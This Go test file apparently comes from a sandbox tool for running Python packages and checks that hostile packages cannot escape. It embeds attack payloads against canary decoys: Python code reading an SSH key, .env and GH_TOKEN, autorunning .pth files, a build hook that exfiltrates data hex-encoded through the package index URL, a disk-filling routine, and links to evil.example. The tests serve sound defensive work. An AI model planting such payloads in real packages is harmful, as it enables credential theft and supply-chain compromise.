package runtimes

import (
	"encoding/hex"
	"errors"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"

	"github.com/scrub-dev/scrub/internal/bug"
	"github.com/scrub-dev/scrub/internal/runtimes/runtimestest"
	"github.com/scrub-dev/scrub/internal/sandbox"
)

// A decoy is what a stranger's package must not reach: a key below a home, a
// token in the environment, a server on this machine, a place to write to.
type decoy struct {
	home, key string
	visits    chan string
}

const canary = "canary-91c4"

func newDecoy(t *testing.T) *decoy {
	t.Helper()
	home, err := os.MkdirTemp("/var/tmp", "scrub-decoy-")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { os.RemoveAll(home) })
	d := &decoy{home: home, key: filepath.Join(home, ".ssh", "id_ed25519"), visits: make(chan string, 100)}
	write(t, d.key, canary)
	write(t, filepath.Join(home, "project", ".env"), canary)
	for _, dir := range []string{home, filepath.Join(home, ".ssh"), filepath.Join(home, "project")} {
		if err := os.Chmod(dir, 0o777); err != nil {
			t.Fatal(err)
		}
	}
	t.Setenv("GH_TOKEN", canary)
	t.Setenv("HOME", home)
	return d
}

// listen is a server that nobody should visit.
func (d *decoy) listen(t *testing.T) string {
	t.Helper()
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { l.Close() })
	go func() {
		for {
			c, err := l.Accept()
			if err != nil {
				return
			}
			d.visits <- c.RemoteAddr().String()
			c.Close()
		}
	}()
	return l.Addr().String()
}

// deed is Python code that tries everything and leaves what it got where it can:
// in the home, at the server, and in its own package.
func (d *decoy) deed(server string) string {
	host, port, _ := net.SplitHostPort(server)
	return strings.NewReplacer("@HOME@", d.home, "@KEY@", d.key, "@HOST@", host, "@PORT@", port).Replace(`
import os, socket
got = []
def attempt(f):
    try:
        got.append(str(f()))
    except BaseException as e:
        got.append("shut: %r" % e)
attempt(lambda: open("@KEY@").read())
attempt(lambda: open("@HOME@/project/.env").read())
attempt(lambda: os.environ.get("GH_TOKEN"))
attempt(lambda: [k for k, v in os.environ.items() if "canary" in v])
attempt(lambda: open("@HOME@/written", "w").write("x"))
attempt(lambda: socket.create_connection(("@HOST@", @PORT@), 1))
attempt(lambda: socket.create_connection(("192.0.2.1", 9), 1))
`)
}

// harm is what a package did, outside or in what it could say.
func (d *decoy) harm(t *testing.T, said ...string) {
	t.Helper()
	if _, err := os.Stat(filepath.Join(d.home, "written")); err == nil {
		t.Error("OPEN: it wrote into the home")
	}
	for _, s := range said {
		if strings.Contains(s, canary) {
			t.Errorf("OPEN: it read a secret: %q", s)
		}
	}
	select {
	case who := <-d.visits:
		t.Errorf("OPEN: %s came by", who)
	default:
	}
}

// run is what the package's own module says of what it got, asked in the box.
func run(t *testing.T, r bug.Runtime, code string) string {
	t.Helper()
	o, err := sandbox.Native{}.Run(t.Context(), sandbox.Job{Repro: bug.Program(code), Runtime: r})
	if err != nil {
		t.Fatal(err)
	}
	return o.Stdout + o.Stderr
}

// A wheel's .pth file runs whenever its interpreter starts. That is never
// outside a box, and a folder that it names is not shown to anybody.
func TestAttackByPth(t *testing.T) {
	for name, pth := range map[string]string{
		"code": "import os; exec(open(os.path.join(os.path.dirname(os.__file__), 'site-packages', " +
			"'deed.py')).read())\n",
		"a folder": "@HOME@\n@HOME@/.ssh\n",
		"a home in disguise": "import sys; sys.path.append('@HOME@'); sys.prefix = '@HOME@'; sys.base_prefix = " +
			"'@HOME@'\n",
	} {
		t.Run(name, func(t *testing.T) {
			d := newDecoy(t)
			deed := d.deed(d.listen(t))
			s := runtimestest.NewShelf("1.0")
			t.Cleanup(s.Close)
			s.Plant = map[string]string{
				"snail_evil.pth": strings.ReplaceAll(pth, "@HOME@", d.home),
				"deed.py":        deed + "\nopen('/tmp/got', 'w').write(repr(got))\n",
				"snail-1.0.data/data/scrub-ready.json": `{"path": "/bin/sh", "version": "3.11", "folders": ["` +
					d.home + `"]}`,
				"snail-1.0.data/data/pyvenv.cfg": "home = " + d.home + "/bin\n",
			}
			e := newEnvironments(t, s, t.TempDir())
			r, err := e.Get(t.Context(), Spec{Package: "snail", Version: "1.0"})
			if err != nil {
				t.Logf("it could not be built: %v", err)
				d.harm(t)
				return
			}
			for _, dir := range r.Folders {
				if strings.HasPrefix(d.home, dir) || strings.HasPrefix(dir, d.home) {
					t.Errorf("OPEN: %s would be shown", dir)
				}
			}
			again, err := e.Get(t.Context(), Spec{Package: "snail", Version: "1.0"})
			if err != nil || again.Path != r.Path || strings.Join(again.Folders, " ") != strings.Join(r.Folders, " ") {
				t.Errorf("the second time: %+v, %v; the first %+v", again, err, r)
			}
			d.harm(t, run(t, r, "import os; print(os.listdir('/tmp'), open('/tmp/got').read() if "+
				"os.path.exists('/tmp/got') else '')"))
		})
	}
}

// A source distribution's build runs in a box, with the index and nothing else.
// What it got it tells the index, by the name of a package.
func TestAttackByBuild(t *testing.T) {
	tell := `
def tell():
    import urllib.request
    try:
        urllib.request.urlopen(os.environ["PIP_INDEX_URL"] + "/got-" + repr(got).encode().hex() + "/")
    except Exception as e:
        print(e)
`
	fill := `
def fill():
    for n in range(64):
        open("/tmp/f%d" % n, "wb").write(b"x" * (64 << 20))
`
	for name, backend := range map[string]string{
		"when it is imported": tell + "tell()\n",
		"in its hook": tell + "def build_wheel(folder, *rest):\n    tell()\n    raise SystemExit('that was " +
			"it')\n",
		"filling what it can": tell + fill + "tell()\nfill()\n",
	} {
		t.Run(name, func(t *testing.T) {
			d := newDecoy(t)
			s := runtimestest.NewShelf("1.0")
			t.Cleanup(s.Close)
			s.Backend = d.deed(d.listen(t)) + backend
			e := newEnvironments(t, s, t.TempDir())
			e.Source = true
			_, err := e.Get(t.Context(), Spec{Package: "snail", Version: "0.1"})
			var cannot CannotBuild
			if !errors.As(err, &cannot) {
				t.Errorf("a build that fails is a fact: %v", err)
			}
			t.Logf("held: %v", err)
			got := ""
			for _, name := range s.Odd() {
				if code, ok := strings.CutPrefix(name, "got-"); ok {
					text, err := hex.DecodeString(code)
					if err != nil {
						t.Fatal(err)
					}
					got += string(text)
				}
			}
			if !strings.Contains(got, "shut") {
				t.Errorf("it did not run at all: %q", got)
			}
			d.harm(t, got, err.Error())
		})
	}
}

// Of a project that is installed in place its packages are shown, and not the
// secrets beside them.
func TestAttackOnEditable(t *testing.T) {
	d := newDecoy(t)
	venv := filepath.Join(t.TempDir(), "venv")
	if out, err := exec.Command("/usr/bin/python3", "-m", "venv", "--without-pip", venv).CombinedOutput(); err != nil {
		t.Fatalf("%v: %s", err, out)
	}
	tree := filepath.Join(d.home, "project")
	write(t, filepath.Join(tree, ".git", "config"), canary)
	write(t, filepath.Join(tree, "pyproject.toml"), "")
	write(t, filepath.Join(tree, "mollusc", "__init__.py"), "shell = True\n")
	write(t, filepath.Join(tree, "secrets", "key.txt"), canary)
	site, err := filepath.Glob(filepath.Join(venv, "lib", "python3*", "site-packages"))
	if err != nil || len(site) == 0 {
		t.Fatal(site, err)
	}
	write(t, filepath.Join(site[0], "mollusc-1.0.dist-info", "direct_url.json"),
		`{"url": "file://`+tree+`", "dir_info": {"editable": true}}`)
	write(t, filepath.Join(site[0], "mollusc-1.0.dist-info", "METADATA"),
		"Metadata-Version: 2.1\nName: mollusc\nVersion: 1.0\n")
	write(t, filepath.Join(site[0], "__editable__.mollusc.pth"), tree+"\n")
	r, err := Places{Home: d.home}.Inspect(t.Context(), filepath.Join(venv, "bin", "python"), []string{"mollusc"})
	if err != nil || r.Packages["mollusc"] != "1.0" {
		t.Fatalf("%+v, %v", r, err)
	}
	got := run(t, r, `
import os, mollusc
print(mollusc.shell, sorted(os.listdir("`+tree+`")))
for path in (".env", ".git/config", "secrets/key.txt"):
    try:
        print(open("`+tree+`/" + path).read())
    except OSError as e:
        print(e)
`)
	if !strings.Contains(got, "True ['mollusc']") {
		t.Errorf("the package itself: %s", got)
	}
	d.harm(t, got)
	before := r.Content
	write(t, filepath.Join(tree, "mollusc", "__init__.py"), "shell = False\n")
	if again, err := (Places{Home: d.home}).Inspect(t.Context(), filepath.Join(venv, "bin", "python"),
		nil); err != nil || again.Content == before {
		t.Errorf("it was edited, and counts as the same: %v", err)
	}
}

// Any package can say that it is edited in place somewhere. What is private by
// its name, leads elsewhere or is no project is not shown for that.
func TestAttackByDirectURL(t *testing.T) {
	d := newDecoy(t)
	site := filepath.Join(t.TempDir(), "lib", "python3.11", "site-packages")
	write(t, filepath.Join(d.home, ".config", "gh", "hosts.yml"), canary)
	write(t, filepath.Join(d.home, ".config", "gh", "__init__.py"), "")
	write(t, filepath.Join(d.home, ".config", "setup.py"), "")
	write(t, filepath.Join(d.home, "tree", "setup.py"), "")
	write(t, filepath.Join(d.home, "tree", "plain", "secret.txt"), canary)
	write(t, filepath.Join(d.home, "noproject", "pkg", "__init__.py"), "")
	for link, to := range map[string]string{"src": "..", "python": "../.ssh", "linked": "../.ssh"} {
		if err := os.Symlink(to, filepath.Join(d.home, "tree", link)); err != nil {
			t.Fatal(err)
		}
	}
	for _, tt := range []struct{ tree, names string }{
		{d.home, ".ssh project tree"}, {filepath.Dir(d.home), filepath.Base(d.home)}, {d.home + "/.config",
			"gh"}, {d.home + "/tree", "plain linked .ssh id_ed25519 tree project"},
		{d.home + "/tree/../.config", "gh"}, {d.home + "/noproject", "pkg"}, {"/", "home root etc"},
	} {
		info := filepath.Join(site, "mollusc-1.0.dist-info")
		write(t, filepath.Join(info, "direct_url.json"),
			`{"url": "file://`+tt.tree+`", "dir_info": {"editable": true}}`)
		write(t, filepath.Join(info, "top_level.txt"), tt.names)
		got, err := Places{Home: d.home}.editable([]string{filepath.Dir(filepath.Dir(filepath.Dir(site)))})
		if err != nil || len(got) > 0 {
			t.Errorf("OPEN: %s would show %q (%v)", tt.tree, got, err)
		}
	}
}

// What is installed cannot answer for the interpreter with anything but versions.
func TestAttackByAnswer(t *testing.T) {
	d := newDecoy(t)
	s := runtimestest.NewShelf("1.0")
	t.Cleanup(s.Close)
	s.Plant = map[string]string{"evil.pth": "import os, json; print(json.dumps({'version': '3.11 @octocat " +
		"![p](https://evil.example)', 'packages': {'snail': 'x](https://evil.example)'}}), flush=True); os._exit(0)\n"}
	e := newEnvironments(t, s, t.TempDir())
	if r, err := e.Get(t.Context(), Spec{Package: "snail", Version: "1.0"}); err == nil ||
		!strings.Contains(err.Error(), "no valid version") {
		t.Errorf("OPEN: %+v, %v", r, err)
	}
	d.harm(t)
}
